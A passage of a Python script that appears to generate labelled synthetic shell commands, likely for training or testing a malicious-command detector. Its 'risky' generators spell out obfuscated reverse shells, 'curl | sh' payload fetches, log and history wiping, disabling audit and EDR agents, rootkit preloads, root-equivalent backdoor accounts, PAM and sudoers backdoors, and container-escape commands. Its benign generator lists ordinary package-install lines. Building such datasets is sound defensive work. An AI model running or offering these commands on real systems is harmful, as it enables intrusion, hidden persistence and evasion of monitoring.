    elif fam == 11:
        t = "echo %s | openssl enc -base64 -d | %s" % (b, sh)
    elif fam == 12:
        t = "bash -c '{echo,%s}|{base64,-d}|{bash,-i}'" % b
    elif fam == 13:
        t = "node -e \"require('child_process').execSync(Buffer.from('%s','base64').toString())\"" % b
    elif fam == 14:
        t = "php -r 'system(base64_decode(\"%s\"));'" % b
    elif fam == 15:
        p = hidden_path(r)
        t = "echo %s | base64 -d > %s; chmod +x %s; %s" % (b, p, p, p)
    elif fam == 16:
        t = "echo %s | tr 'A-Za-z' 'N-ZA-Mn-za-m' | %s" % (q(r, pl.translate(str.maketrans(
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm"))), sh)
    else:
        t = "$(echo %s | base64 -d) %s" % (rand_b64(r, r.choice(["curl", "wget", "nc", "bash"])), r.choice(["-s " + url(r), host(r) + " " + port(r), "-i"]))
    return fam, t


def evasion(r):
    fam = r.randrange(28)
    if fam == 0:
        t = r.choice(["history -c", "history -c && history -w", "history -cw"])
    elif fam == 1:
        t = r.choice(["unset HISTFILE", "unset HISTFILE HISTSIZE HISTFILESIZE", "export HISTFILE=/dev/null", "export HISTSIZE=0", "HISTFILE=/dev/null"])
    elif fam == 2:
        t = "%s %s" % (r.choice(["rm -f", "rm -rf", "shred -u", "truncate -s 0"]), r.choice(["~/.bash_history", "/root/.bash_history", "/home/*/.bash_history", "$HISTFILE"]))
    elif fam == 3:
        t = "ln -sf /dev/null %s" % r.choice(["~/.bash_history", "/root/.bash_history", "/root/.zsh_history"])
    elif fam == 4:
        t = "%s /var/log/%s" % (r.choice(["rm -rf", "rm -f", "shred -zu", "cat /dev/null >", "echo > ", "truncate -s 0"]),
                                r.choice(["*", "auth.log", "syslog", "secure", "wtmp", "btmp", "lastlog", "messages", "audit/audit.log", "*.log"]))
    elif fam == 5:
        t = "find /var/log -type f -exec %s {} \\;" % r.choice(["truncate -s 0", "rm -f", "shred -u"])
    elif fam == 6:
        t = r.choice(["setenforce 0", "echo SELINUX=disabled > /etc/selinux/config", "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config"])
    elif fam == 7:
        t = r.choice(["iptables -F", "iptables -X && iptables -F", "iptables -P INPUT ACCEPT && iptables -F", "ufw disable", "systemctl stop firewalld",
                      "nft flush ruleset"])
    elif fam == 8:
        t = "%s %s" % (r.choice(["systemctl stop", "systemctl disable", "service", "pkill -9 -f", "killall -9"]),
                       r.choice(["auditd", "apparmor", "falcon-sensor", "aliyun-service", "aegis", "osqueryd", "wazuh-agent", "falco", "sysdig",
                                 "newrelic-infra", "datadog-agent", "qualys-cloud-agent"]))
        if t.startswith("service"):
            t += " stop"
    elif fam == 9:
        t = r.choice(["auditctl -e 0", "auditctl -D", "echo 0 > /proc/sys/kernel/randomize_va_space", "sysctl -w kernel.nmi_watchdog=0"])
    elif fam == 10:
        t = "echo %s > /etc/ld.so.preload" % r.choice(["/usr/local/lib/libprocesshider.so", "/lib/.libsys.so", "/usr/lib/x86_64-linux-gnu/libns.so", hidden_path(r) + ".so"])
    elif fam == 11:
        t = "touch -r %s %s" % (r.choice(["/bin/ls", "/etc/passwd", "/usr/bin/ssh", "/bin/bash"]), hidden_path(r))
    elif fam == 12:
        t = "chattr +i %s" % r.choice([hidden_path(r), "/etc/ld.so.preload", "/root/.ssh/authorized_keys", "/etc/crontab"])
    elif fam == 13:
        t = r.choice(["rm -rf /usr/local/aegis", "curl -s http://update.aegis.aliyun.com/download/uninstall.sh | bash", "/usr/local/qcloud/stargate/admin/uninstall.sh",
                      "rm -rf /usr/local/qcloud", "pkill -f kdevtmpfsi", "kill -9 $(pgrep -f xmrig | grep -v $$)"])
    elif fam == 14:
        t = "insmod %s" % r.choice(["/tmp/.r.ko", "diamorphine.ko", hidden_path(r) + ".ko", "/lib/modules/$(uname -r)/rk.ko"])
    elif fam == 15:
        t = r.choice(["journalctl --vacuum-time=1s", "journalctl --rotate && journalctl --vacuum-size=1K", "dmesg -C", "utmpdump /var/log/wtmp | grep -v attacker > /tmp/w"])
    elif fam == 16:
        t = r.choice(["chmod u+s /bin/bash", "chmod 4755 %s" % hidden_path(r), "cp /bin/bash %s && chmod +s %s" % ((hidden_path(r),) * 2),
                      "echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "setcap cap_setuid+ep %s" % hidden_path(r)])
    elif fam == 17:
        t = r.choice(["export HISTCONTROL=ignorespace", "set +o history", "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTLOG WATCH"])
    elif fam == 18:
        t = "mount -o bind /tmp/.empty /proc/%s" % r.choice(["$PID", "$(pgrep xmrig)", "$!", "1234"])
    elif fam == 19:
        t = "sed -i '/%s/d' /var/log/%s" % (r.choice(["Accepted", ip(r), "sshd", "sudo"]), r.choice(["auth.log", "secure", "syslog"]))
    else:
        fam, t = evasion_more(r)
    return fam, t


def evasion_more(r):
    """Further defence-evasion families, one per ATT&CK sub-technique seen in Linux intrusions: indicator removal
    (T1070.002/.003/.004/.006), impair defenses (T1562.001/.004/.006/.012), hide artifacts (T1564.001),
    masquerading (T1036.004/.005), file permission modification (T1222.002), rootkits (T1014)."""
    hp = hidden_path(r)
    fam = 100 + r.randrange(16)
    if fam == 100:
        t = "history -d %s" % r.choice(["$((HISTCMD-1))", "-1", "$(history 1 | awk '{print $1}')", str(r.randint(1, 900))])
    elif fam == 101:
        t = "%s -%s %s %s" % (r.choice(["touch", "/usr/bin/touch"]), r.choice(["t", "d", "a -t", "m -t"]),
                              r.choice(["201901010000", "'2019-01-01 00:00'", "200801011200.00", "$(date -r /bin/ls +%Y%m%d%H%M)"]), hp)
    elif fam == 102:
        t = "date -s %s" % r.choice(["'2010-01-01 00:00:00'", "\"1 JAN 2015 12:00:00\"", "@1262304000"])
    elif fam == 103:
        t = "%s %s" % (r.choice(["rm -f", "shred -n 3 -u", "srm", "wipe -f"]), r.choice(["/var/log/wtmp /var/log/btmp", "/var/log/lastlog", "/var/run/utmp", "/var/log/auth.log*", "~/.viminfo ~/.lesshst", "/root/.mysql_history"]))
    elif fam == 104:
        t = r.choice(["systemctl mask auditd", "systemctl stop rsyslog && systemctl disable rsyslog", "service rsyslog stop", "kill -9 $(pidof rsyslogd)",
                      "systemctl stop syslog.socket rsyslog.service", "update-rc.d -f auditd remove", "chkconfig auditd off"])
    elif fam == 105:
        t = r.choice(["aa-teardown", "systemctl stop apparmor && systemctl disable apparmor", "echo 0 > /sys/module/apparmor/parameters/enabled",
                      "apparmor_parser -R /etc/apparmor.d/*", "setenforce Permissive"])
    elif fam == 106:
        t = r.choice(["ufw --force disable", "iptables -P INPUT ACCEPT; iptables -P OUTPUT ACCEPT; iptables -P FORWARD ACCEPT", "systemctl stop ufw",
                      "iptables -I INPUT -s %s -j ACCEPT" % ip(r), "ip6tables -F", "firewall-cmd --permanent --add-port=%s/tcp" % port(r), "service iptables stop"])
    elif fam == 107:
        t = "mv %s %s" % (r.choice(["/tmp/xmrig", "./payload", "/tmp/x", "bot", "./s"]), r.choice(["/tmp/.X11-unix/.x", "/dev/shm/.kworker", "/usr/bin/[kworker/0:1]", "/var/tmp/.sshd", "/lib/systemd/systemd-helper"]))
    elif fam == 108:
        t = "exec -a %s %s" % (r.choice(["'[kworker/0:1]'", "sshd", "\"[kthreadd]\"", "'/usr/sbin/cron -f'"]), hp)
    elif fam == 109:
        t = "chattr %s %s" % (r.choice(["-ia", "+a", "-i"]), r.choice(["/etc/ld.so.preload", "/root/.ssh/authorized_keys", "/etc/passwd", "/usr/bin/crontab", hp]))
    elif fam == 110:
        t = "%s /tmp/.%s" % (r.choice(["mkdir -p", "touch", "mkdir"]), r.choice([" ", "..", ". ", "ICE-unix/.x", "font-unix/.s", "X11-unix/.x"]))
    elif fam == 111:
        t = "%sLD_PRELOAD=%s" % (r.choice(["export ", "", "echo "]), hp + ".so")
    elif fam == 112:
        t = r.choice(["echo 0 > /proc/sys/kernel/yama/ptrace_scope", "sysctl -w kernel.dmesg_restrict=0", "echo 1 > /proc/sys/kernel/sysrq",
                      "rmmod %s" % r.choice(["apparmor", "falco", "sysdig_probe"]), "auditctl -a never,task"])
    elif fam == 113:
        t = "rm -rf %s" % r.choice(["/opt/microsoft/mdatp", "/opt/CrowdStrike", "/usr/local/cloudmonitor", "/var/ossec", "/opt/sophos-av", "/etc/falco"])
    elif fam == 114:
        t = "%s /var/log/%s" % (r.choice(["> ", ":> ", "cp /dev/null", "echo -n > ", "dd if=/dev/null of="]), r.choice(["wtmp", "lastlog", "auth.log", "secure", "messages", "syslog"]))
    else:
        t = r.choice(["unset HISTFILE", "unset PROMPT_COMMAND", "export HISTFILESIZE=0", "export HISTIGNORE='*'", "export HISTCONTROL=ignoreboth", "HISTSIZE=0"])
    return fam, t


def persistence(r):
    u = url(r)
    pay = r.choice(["curl -fsSL %s | sh" % u, "wget -q -O- %s | bash" % u, hidden_path(r), "bash -i >& /dev/tcp/%s/%s 0>&1" % (ip(r), port(r)),
                    "/usr/bin/python3 %s" % hidden_path(r), "(curl -s %s||wget -qO- %s)|sh" % (u, u)])
    cron = r.choice(["* * * * *", "*/5 * * * *", "*/10 * * * *", "@reboot", "0 * * * *", "*/1 * * * *", "*/30 * * * *"])
    fam = r.randrange(26)
    if fam == 0:
        t = "(crontab -l 2>/dev/null; echo \"%s %s\") | crontab -" % (cron, pay)
    elif fam == 1:
        t = "echo \"%s root %s\" >> /etc/crontab" % (cron, pay)
    elif fam == 2:
        t = "echo '%s %s' > /etc/cron.d/%s" % (cron, pay, r.choice(["apache", "0systemd", "sysupdate", "php", "root", "zzz", ".x"]))
    elif fam == 3:
        t = "echo '%s' >> %s" % (pay, r.choice(["~/.bashrc", "/root/.bashrc", "/etc/profile", "/etc/bash.bashrc", "~/.profile", "/etc/profile.d/%s.sh" % r.choice(["x", "env", "sys"]), "~/.zshrc"]))
    elif fam == 4:
        t = "echo \"%s %s\" >> %s" % (r.choice(["ssh-rsa", "ssh-ed25519"]),
                                      "AAAA" + "".join(r.choice(WALLET_CH + "+/") for _ in range(r.randint(60, 120))) + " " + r.choice(["root@kali", "x@x", "admin", "", "ops@localhost"]),
                                      r.choice(["/root/.ssh/authorized_keys", "~/.ssh/authorized_keys", "/home/*/.ssh/authorized_keys"]))
    elif fam == 5:
        svc = r.choice(["sysupdate", "dbus-helper", "kworker", "network-check", "systemd-tmp", "x"])
        t = "printf '[Unit]\\nDescription=%s\\n[Service]\\nExecStart=%s\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/%s.service" % (svc, hidden_path(r), svc)
    elif fam == 6:
        t = "systemctl enable --now %s" % r.choice(["sysupdate.service", "dbus-helper", "kworker.service", "x.service", "network-check"])
    elif fam == 7:
        t = "echo '%s &' >> /etc/rc.local" % r.choice([hidden_path(r), pay])
    elif fam == 8:
        t = "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash %s" % r.choice(["backup", "sys", "admin1", "x", "support", "ftp2"])
    elif fam == 9:
        t = "echo '%s:%s:0:0::/root:/bin/bash' >> /etc/passwd" % (r.choice(["sys2", "toor", "x", "backdoor"]), r.choice(["x", "", "$1$abc$" + "".join(r.choice(WALLET_CH) for _ in range(22))]))
    elif fam == 10:
        t = "echo \"%s:%s\" | chpasswd" % (r.choice(["root", "admin", "support"]), r.choice(["P@ssw0rd", "toor", "123456", "Passw0rd!"]))
    elif fam == 11:
        t = "cp %s /etc/init.d/%s && update-rc.d %s defaults" % ((hidden_path(r),) + (r.choice(["sshd2", "netd", "x"]),) * 2)
    elif fam == 12:
        t = "echo \"alias sudo='%s'\" >> ~/.bashrc" % r.choice(["/tmp/.s", "~/.hidden/sudo", "sudo && curl -s %s | sh" % u])
    elif fam == 13:
        t = "echo \"%s\" | at now + %d minutes" % (pay, r.randint(1, 30))
    elif fam == 14:
        t = "echo '%s' | crontab -" % ("%s %s" % (cron, pay))
    elif fam == 15:
        t = "echo 'APT::Update::Pre-Invoke {\"%s\"};' > /etc/apt/apt.conf.d/%s" % (pay.replace('"', ""), r.choice(["99x", "01sys", "42up"]))
    elif fam == 16:
        t = "printf '[Timer]\\nOnBootSec=1min\\nOnUnitActiveSec=5min\\n' > /etc/systemd/system/%s.timer" % r.choice(["sysupdate", "x", "kworker"])
    elif fam == 17:
        t = "echo '%s' > /etc/update-motd.d/%s && chmod +x /etc/update-motd.d/%s" % ((pay,) + (r.choice(["00-header", "99-x"]),) * 2)
    else:
        fam, t = persistence_more(r, pay, cron)
    return fam, t


def persistence_more(r, pay, cron):
    """Further persistence families, one per ATT&CK Linux sub-technique: cron/at/systemd timers (T1053.002/.003/.006),
    systemd services and generators (T1543.002), shell and login hooks (T1546.004/.005), SSH keys (T1098.004), local
    accounts (T1136.001), RC scripts (T1037.004), kernel modules (T1547.006), dynamic-linker hijack (T1574.006),
    PAM (T1556.003), package-manager and udev hooks (T1546/T1546.017)."""
    hp = hidden_path(r)
    fam = 100 + r.randrange(18)
    if fam == 100:
        t = "echo '%s %s' >> /var/spool/cron/%s" % (cron, pay, r.choice(["root", "crontabs/root", "crontabs/www-data"]))
    elif fam == 101:
        t = "(crontab -l ; echo \"%s %s\") | sort - | uniq - | crontab -" % (cron, pay)
    elif fam == 102:
        t = "cp %s /etc/cron.%s/%s" % (hp, r.choice(["hourly", "daily", "weekly"]), r.choice(["0anacron", "logrotate2", "sysstat", ".x"]))
    elif fam == 103:
        t = "echo '%s' > /etc/systemd/system/%s.service && systemctl daemon-reload && systemctl enable %s" % (
            "[Service]\\nExecStart=%s\\nRestart=always" % hp, r.choice(["dbus-x", "sshd2", "kthreadd"]), r.choice(["dbus-x", "sshd2", "kthreadd"]))
    elif fam == 104:
        t = "systemctl --user enable %s && loginctl enable-linger %s" % (r.choice(["agent.service", "update.timer", "x.service"]), r.choice(["root", "www-data", "$USER"]))
    elif fam == 105:
        t = "echo %s >> %s" % (r.choice(["'%s &'" % hp, "'%s'" % pay]), r.choice(["/etc/bash.bashrc", "~/.bash_profile", "/etc/profile.d/00-sys.sh", "~/.bash_logout", "/root/.profile", "/etc/zsh/zshrc"]))
    elif fam == 106:
        t = "%s -p /root/.ssh && %s >> /root/.ssh/authorized_keys" % ("mkdir", r.choice(["curl -s %s" % url(r), "wget -qO- %s" % url(r), "echo ssh-rsa AAAAB3NzaC1yc2E%s" % "".join(r.choice(WALLET_CH) for _ in range(40))]))
    elif fam == 107:
        t = "usermod -o -u 0 -g 0 %s" % r.choice(["support", "games", "nobody", "sync", "lp", "ftp"])
    elif fam == 108:
        t = "echo '%s ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers%s" % (r.choice(["www-data", "nobody", "daemon", "games", "nginx"]), r.choice(["", ".d/README", ".d/99-x"]))
    elif fam == 109:
        t = "echo '%s' >> /etc/init.d/%s" % (pay, r.choice(["networking", "rc.local", "cron"]))
    elif fam == 110:
        t = "%s %s && echo %s >> /etc/modules" % (r.choice(["insmod", "modprobe"]), r.choice(["/lib/modules/$(uname -r)/kernel/drivers/x.ko", hp + ".ko"]), r.choice(["x", "rk", "diamorphine"]))
    elif fam == 111:
        t = "echo %s >> /etc/ld.so.preload" % (hp + ".so")
    elif fam == 112:
        t = "sed -i '1i auth sufficient pam_%s.so' /etc/pam.d/%s" % (r.choice(["permit", "backdoor", "unix2", "x"]), r.choice(["sshd", "common-auth", "su", "sudo"]))
    elif fam == 113:
        t = "echo 'DPkg::Post-Invoke {\"%s\";};' > /etc/apt/apt.conf.d/%s" % (pay.replace('"', "").replace("'", ""), r.choice(["99update", "00x"]))
    elif fam == 114:
        t = "echo 'ACTION==\"add\", RUN+=\"%s\"' > /etc/udev/rules.d/%s.rules" % (hp, r.choice(["99-x", "75-net", "10-sys"]))
    elif fam == 115:
        t = "echo '%s' | at %s" % (pay, r.choice(["now + 1 minute", "midnight", "now", "23:59"]))
    elif fam == 116:
        t = "printf '[Desktop Entry]\\nType=Application\\nExec=%s\\n' > %s" % (hp, r.choice(["~/.config/autostart/x.desktop", "/etc/xdg/autostart/sys.desktop"]))
    else:
        t = "echo '%s' > .git/hooks/%s && chmod +x .git/hooks/%s" % ((pay,) + (r.choice(["post-merge", "pre-commit", "post-checkout"]),) * 2)
    return fam, t


def escape(r):
    fam = r.randrange(18)
    if fam == 0:
        t = "nsenter %s -- %s" % (r.choice(["-t 1 -m -u -i -n -p", "--target 1 --mount --uts --ipc --net --pid", "-t 1 -a", "-t1 -m -u -n -i"]),
                                  r.choice(["sh", "bash", "/bin/sh", "chroot /host", "cat /etc/shadow"]))
    elif fam == 1:
        t = "docker -H unix:///var/run/docker.sock run -v /:/host --privileged -it %s chroot /host %s" % (r.choice(["alpine", "busybox", "ubuntu"]), r.choice(["sh", "bash"]))
    elif fam == 2:
        t = "curl -s --unix-socket /var/run/docker.sock http://localhost/%s" % r.choice(["containers/json", "images/json", "v1.41/containers/json?all=1", "info"])
    elif fam == 3:
        t = ("curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{\"Image\":\"%s\",\"Cmd\":[\"chroot\",\"/host\",\"sh\"],"
             "\"HostConfig\":{\"Binds\":[\"/:/host\"],\"Privileged\":true}}' http://localhost/containers/create" % r.choice(["alpine", "busybox"]))
    elif fam == 4:
        d = r.choice(["/tmp/cgrp", "/tmp/c", "/mnt/cg", "/tmp/.cg"])
        t = r.choice(["mount -t cgroup -o %s cgroup %s" % (r.choice(["rdma", "memory", "cpu"]), d), "echo 1 > %s/x/notify_on_release" % d,
                      "echo \"$host_path/cmd\" > %s/release_agent" % d, "sh -c \"echo \\$\\$ > %s/x/cgroup.procs\"" % d])
    elif fam == 5:
        t = "mount /dev/%s /mnt%s" % (r.choice(["sda1", "sda", "vda1", "xvda1", "nvme0n1p1", "dm-0"]), r.choice(["", "/host", "/h", "/tmp"]))
    elif fam == 6:
        t = "chroot /%s %s" % (r.choice(["host", "mnt/host", "hostfs", "mnt"]), r.choice(["sh", "bash", "/bin/bash", "passwd root"]))
    elif fam == 7:
        t = "%s /proc/1/root/%s" % (r.choice(["cat", "ls -la", "cp /tmp/x", "echo x >>"]), r.choice(["etc/shadow", "root/.ssh/authorized_keys", "etc/crontab", ""]))
    elif fam == 8:
        t = "docker run --rm -it --privileged --pid=host %s nsenter -t 1 -m -u -n -i sh" % r.choice(["alpine", "ubuntu", "busybox", "debian"])
    elif fam == 9:
        t = "kubectl run %s --image=alpine --restart=Never -it --rm --overrides '{\"spec\":{\"hostPID\":true,\"hostNetwork\":true,\"containers\":[{\"name\":\"x\",\"image\":\"alpine\",\"securityContext\":{\"privileged\":true},\"command\":[\"nsenter\",\"-t\",\"1\",\"-a\",\"sh\"]}]}}'" % r.choice(["x", "debug", "r00t"])
    elif fam == 10:
        t = "echo '|%s' > /proc/sys/kernel/core_pattern" % hidden_path(r)
    elif fam == 11:
        t = "debugfs -w /dev/%s" % r.choice(["sda1", "vda1", "xvda1"])
    elif fam == 12:
        t = "ctr -a /run/containerd/containerd.sock %s" % r.choice(["run --privileged --mount type=bind,src=/,dst=/host,options=rbind docker.io/library/alpine:latest x sh", "images ls", "containers ls"])
    elif fam == 13:
        t = "docker run -v /var/run/docker.sock:/var/run/docker.sock -it %s sh" % r.choice(["docker", "alpine", "docker:cli"])
    elif fam == 14:
        t = "echo '%s' > /sys/kernel/uevent_helper" % hidden_path(r)
    elif fam == 15:
        t = "crictl --runtime-endpoint unix:///run/containerd/containerd.sock exec -it %s sh" % "".join(r.choice("0123456789abcdef") for _ in range(12))
    elif fam == 16:
        t = "host_path=$(sed -n 's/.*perdir=\\([^,]*\\).*/\\1/p' /etc/mtab)"
    else:
        t = "unshare -UrmC %s" % r.choice(["bash", "sh", "--mount-proc bash"])
    return fam, t


RISKY_GENERATORS = {
    "reverse-shell": rev_shell, "remote-code-execution": rce, "cryptomining": mining, "credential-access": cred,
    "obfuscated-execution": obf, "defence-evasion": evasion, "persistence": persistence, "container-escape": escape,
}


def vary(r, t):
    """surface variation: spacing around pipes/redirections, tabs, leading sudo, $IFS"""
    k = r.random()
    if k < 0.1:
        t = t.replace(" | ", "|")
    elif k < 0.18:
        t = t.replace("|", " | ").replace("  ", " ")
    elif k < 0.22:
        t = t.replace(" ", "\t", 1)
    if r.random() < 0.04 and "'" not in t and '"' not in t:
        t = t.replace(" ", "${IFS}")
    if r.random() < 0.05 and not t.startswith("sudo"):
        t = "sudo " + t
    return t


def risky_lines(r: random.Random, category: str, n: int):
    gen = RISKY_GENERATORS[category]
    out = []
    seen = set()
    per_family = {}
    cap = max(20, n // 8)  # no template family may dominate a category
    tries = 0
    while len(out) < n and tries < n * 20:
        tries += 1
        fam, t = gen(r)
        t = vary(r, t).strip()
        if t in seen or per_family.get(fam, 0) >= cap:
            continue
        per_family[fam] = per_family.get(fam, 0) + 1
        seen.add(t)
        out.append((fam, t))
    return out


# ----------------------------------------------------------------------------------- benign generator
APT_PKGS = ["ca-certificates", "curl", "wget", "gnupg", "dirmngr", "git", "openssh-client", "procps", "tzdata", "locales", "libssl-dev",
            "build-essential", "gcc", "g++", "make", "autoconf", "libtool", "pkg-config", "libffi-dev", "zlib1g-dev", "libpq-dev",
            "libxml2-dev", "libcurl4-openssl-dev", "libjpeg62-turbo-dev", "libpng-dev", "libfreetype6-dev", "libzip-dev", "unzip",
            "xz-utils", "bzip2", "netbase", "tini", "gosu", "jq", "less", "vim-tiny", "nano", "iproute2", "iputils-ping", "dnsutils",
            "python3", "python3-pip", "python3-venv", "openjdk-17-jre-headless", "nginx", "supervisor", "cron", "logrotate",
            "libsqlite3-dev", "libreadline-dev", "libbz2-dev", "libncursesw5-dev", "tk-dev", "liblzma-dev", "uuid-dev",
            "libgdbm-dev", "libedit-dev", "libicu-dev", "libonig-dev", "libargon2-dev", "libsodium-dev", "file", "re2c",
            "postgresql-client", "default-mysql-client", "redis-tools", "imagemagick", "ffmpeg", "fonts-liberation", "libnss3",
            "git-lfs", "rsync", "patch", "dpkg-dev", "libc6-dev", "libgmp-dev", "libyaml-dev", "libevent-dev", "tar", "gettext-base"]
APK_PKGS = ["ca-certificates", "curl", "bash", "git", "openssh-client", "tzdata", "su-exec", "tini", "libc6-compat", "gcc", "musl-dev",
            "make", "linux-headers", "openssl-dev", "libffi-dev", "postgresql-dev", "python3", "py3-pip", "nodejs", "npm", "jq",
            "build-base", "autoconf", "automake", "libtool", "pcre-dev", "zlib-dev", "coreutils", "shadow", "dumb-init", "gnupg",
            "libstdc++", "icu-libs", "krb5-libs", "libgcc", "libintl", "libssl3", "xz", "tar", "unzip", "procps", "mariadb-client"]
PY_PKGS = ["gunicorn", "uvicorn[standard]", "flask", "django", "requests", "psycopg2-binary", "celery", "redis", "boto3", "numpy",
           "pandas", "fastapi", "pydantic", "sqlalchemy", "alembic", "pytest", "setuptools", "wheel", "pip", "poetry", "pipenv",
           "cryptography", "pyyaml", "jinja2", "click", "lxml", "pillow", "scipy", "supervisor", "httpx", "ansible"]
NPM_PKGS = ["pm2", "yarn", "pnpm", "typescript", "serve", "nodemon", "npm", "@angular/cli", "corepack", "node-gyp", "http-server", "esbuild"]
USERS = ["app", "appuser", "node", "www-data", "nginx", "redis", "postgres", "mysql", "nonroot", "service", "jenkins", "elasticsearch",
         "rabbitmq", "mongodb", "grafana", "prometheus", "worker", "api", "web", "django", "rails", "runner"]
APP_DIRS = ["/app", "/srv/app", "/usr/src/app", "/opt/app", "/var/www/html", "/home/app", "/data", "/var/lib/postgresql/data",
            "/var/lib/redis", "/usr/share/nginx/html", "/var/cache/nginx", "/run/nginx", "/var/lib/mysql", "/etc/grafana", "/workspace",
            "/usr/local/app", "/code", "/opt/service", "/var/log/app", "/var/run/postgresql", "/docker-entrypoint-initdb.d"]
PROJECTS = [("prometheus", "prometheus/prometheus"), ("node_exporter", "prometheus/node_exporter"), ("tini", "krallin/tini"),
            ("gosu", "tianon/gosu"), ("dumb-init", "Yelp/dumb-init"), ("helm", "helm/helm"), ("kubectl", "kubernetes/kubernetes"),
            ("yq", "mikefarah/yq"), ("hadolint", "hadolint/hadolint"), ("grpc-health-probe", "grpc-ecosystem/grpc-health-probe"),
            ("restic", "restic/restic"), ("caddy", "caddyserver/caddy"), ("traefik", "traefik/traefik"), ("etcd", "etcd-io/etcd"),
            ("consul", "hashicorp/consul"), ("dockerize", "jwilder/dockerize"), ("s6-overlay", "just-containers/s6-overlay"),
            ("trivy", "aquasecurity/trivy"), ("minio", "minio/minio"), ("terraform", "hashicorp/terraform"), ("vault", "hashicorp/vault")]
INSTALLERS = [
    "curl -fsSL https://get.docker.com -o get-docker.sh", "sh get-docker.sh", "curl -fsSL https://get.docker.com | sh",
    "curl https://sh.rustup.rs -sSf | sh -s -- -y", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal",
    "curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", "curl -fsSL https://deb.nodesource.com/setup_lts.x | bash -",
    "curl -sSL https://install.python-poetry.org | python3 -", "curl -LsSf https://astral.sh/uv/install.sh | sh",
    "curl -fsSL https://bun.sh/install | bash", "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
    "curl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash", "curl -sL https://aka.ms/InstallAzureCLIDeb | bash",
    "curl -fsSL https://tailscale.com/install.sh | sh", "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b /usr/local/bin v1.55.2",
    "wget -qO- https://get.pnpm.io/install.sh | ENV=\"$HOME/.bashrc\" SHELL=\"$(which bash)\" bash -", "curl -fsSL https://pyenv.run | bash",
    "curl -sS https://getcomposer.org/installer | php -- --install-dir=/usr/local/bin --filename=composer",
    "curl -fsSL https://code-server.dev/install.sh | sh", "curl -s https://packagecloud.io/install/repositories/github/git-lfs/script.deb.sh | bash",
    "curl -1sLf https://dl.cloudsmith.io/public/caddy/stable/setup.deb.sh | bash", "curl -sfL https://get.k3s.io | sh -",
    "curl -fsSL https://ollama.com/install.sh | sh", "wget -qO- https://deb.nodesource.com/setup_18.x | bash -", "sh -c \"$(curl -fsSL https://starship.rs/install.sh)\" -- --yes",
    "curl -sSL https://get.rvm.io | bash -s stable", "curl -fsSL https://get.jetify.com/devbox | bash -s -- -f", "bash /tmp/nodesource_setup.sh",
    "curl -fsSL https://deno.land/install.sh | sh", "curl -fsSL https://fnm.vercel.app/install | bash",
]


def ver(r, parts=3):
    return ".".join(str(r.randint(0, 20 if i else 9)) for i in range(parts))


def sha(r):
    return "".join(r.choice("0123456789abcdef") for _ in range(64))


def benign_line(r: random.Random):
    """-> (family, text)"""
    fam = r.randrange(63)
    pk = lambda pool, lo=1, hi=6: " ".join(r.sample(pool, r.randint(lo, hi)))
    u = r.choice(USERS)
    d = r.choice(APP_DIRS)
    name, repo = r.choice(PROJECTS)
    v = ver(r)
    arch = r.choice(["amd64", "arm64", "linux-amd64", "linux-x86_64", "x86_64", "$(dpkg --print-architecture)", "${TARGETARCH}", "$ARCH", "${dpkgArch}"])
    if fam == 0:
        t = r.choice(["apt-get update", "apt-get update -qq", "apt-get -y update", "apt update", "apt-get update -y"])
    elif fam == 1:
        t = "%sapt-get install -y %s%s" % (r.choice(["", "DEBIAN_FRONTEND=noninteractive "]), r.choice(["--no-install-recommends ", "-q ", ""]), pk(APT_PKGS, 1, 9))
    elif fam == 2:
        t = r.choice(["rm -rf /var/lib/apt/lists/*", "apt-get clean", "apt-get purge -y --auto-remove -o APT::AutoRemove::RecommendsImportant=false",
                      "apt-get autoremove -y", "rm -rf /var/lib/apt/lists/* /tmp/* /var/tmp/*", "apt-mark auto '.*' > /dev/null",
                      "apt-mark manual $savedAptMark", "savedAptMark=\"$(apt-mark showmanual)\"", "apt-get dist-clean",
                      "apt-get purge -y --auto-remove " + pk(APT_PKGS, 1, 3)])
    elif fam == 3:
        t = "apk add --no-cache %s%s" % (r.choice(["", "--virtual .build-deps ", "--virtual .fetch-deps ", "-U "]), pk(APK_PKGS, 1, 8))
    elif fam == 4:
        t = r.choice(["apk del .build-deps", "apk del --no-network .fetch-deps", "apk upgrade --no-cache", "rm -rf /var/cache/apk/*",
                      "apk update", "apk add --no-cache --upgrade " + r.choice(APK_PKGS)])
    elif fam == 5:
        t = "%s install -y %s" % (r.choice(["yum", "dnf", "microdnf", "tdnf"]), pk(["shadow-utils", "tar", "gzip", "findutils", "which", "procps-ng",
                                                                               "java-17-openjdk-headless", "python3", "gcc", "make", "openssl", "glibc-langpack-en", "hostname"], 1, 5))
    elif fam == 6:
        t = r.choice(["yum clean all", "dnf clean all", "microdnf clean all", "rm -rf /var/cache/yum", "rm -rf /var/cache/dnf"])
    elif fam == 7:
        t = "pip install %s%s" % (r.choice(["--no-cache-dir ", "--no-cache-dir --upgrade ", "-U ", "--user ", ""]),
                                  r.choice(["-r requirements.txt", "-r /tmp/requirements.txt", pk(PY_PKGS, 1, 4), "%s==%s" % (r.choice(PY_PKGS), v), "-e .", "."]))
        if r.random() < 0.2:
            t = t.replace("pip ", r.choice(["pip3 ", "python -m pip ", "python3 -m pip ", "/opt/venv/bin/pip "]), 1)
    elif fam == 8:
        t = r.choice(["python -m venv /opt/venv", "python3 -m venv .venv", "poetry install --no-root --no-interaction --no-ansi", "poetry config virtualenvs.create false",
                      "pipenv install --system --deploy", "uv sync --frozen --no-dev", "python manage.py collectstatic --noinput", "python -m compileall /app",
